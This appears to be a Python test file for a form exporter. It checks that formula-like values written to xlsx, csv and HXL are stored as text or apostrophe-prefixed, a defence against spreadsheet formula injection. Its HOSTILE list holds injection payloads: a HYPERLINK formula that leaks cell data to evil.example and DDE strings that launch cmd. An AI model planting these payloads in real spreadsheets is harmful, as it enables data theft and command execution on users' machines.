import io

from openpyxl import Workbook, load_workbook

from linli.domain.cells import csv_value, xlsx_row


def test_risky_values_are_text_in_xlsx_and_quoted_in_csv():
    values = ["=1+1", "+86 138", "-2", "@x", "\tx", "普通", 42, None]
    book = Workbook(write_only=True)
    sheet = book.create_sheet()
    sheet.append(xlsx_row(sheet, values))
    out = io.BytesIO()
    book.save(out)
    cells = next(iter(load_workbook(out).worksheets[0].iter_rows()))
    assert [c.value for c in cells[:7]] == values[:7]  # shown as typed
    assert [c.data_type for c in cells[:6]] == ["s"] * 6  # never evaluated
    assert [csv_value(v) for v in values] == [
        "'=1+1",
        "'+86 138",
        "'-2",
        "'@x",
        "'\tx",
        "普通",
        42,
        None,
    ]


# --- the department forms' writer (xlsx, csv, HXL), fed hostile text everywhere -----------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&B3,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _hostile_table():
    import datetime as dt

    from linli.domain.forms import build_table, parse_template
    from linli.domain.forms.model import FormContext

    template = parse_template(
        """\
name: 测试
title: "{place}名单"
dataset: people
above:
  - ["{place}", "=1+1"]
columns:
  - {header: 序号, value: serial, hxl: "#meta+serial"}
  - {header: "=2+2", value: name, hxl: "#affected+name"}
  - {header: [备注, "@A1"], value: name, hxl: "#affected+note"}
below:
  - ["=3+3", "-4"]
"""
    )
    people = [{"name": text, "community": "甲社区", "categories": []} for text in HOSTILE]
    context = FormContext(place=HOSTILE[1], date=dt.date(2026, 3, 10), labels={}, full_id=False)
    return build_table(template, people, context)


def test_a_form_never_carries_a_formula_in_xlsx_csv_or_hxl():
    """Names, the place in the title, headers and lines above and below that look like
    formulas are text cells in xlsx and apostrophe-prefixed in csv and HXL."""
    import csv

    from linli.domain.forms.render import render

    table = _hostile_table()
    book = load_workbook(io.BytesIO(render(table, "xlsx")))
    cells = [c for row in book.active.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells}
    # Shown as typed (XlsxWriter stores a carriage return as _x000D_, openpyxl leaves it so).
    assert set(HOSTILE[:-1]) <= texts and f"{HOSTILE[1]}名单" in texts
    for fmt in ("csv", "hxl"):
        rows = list(csv.reader(io.StringIO(render(table, fmt).decode("utf-8-sig"))))
        values = [v for row in rows for v in row]
        assert not [v for v in values if v.startswith(("=", "+", "-", "@", "\t", "\r"))], fmt
        assert {"'" + text for text in HOSTILE} <= set(values), fmt
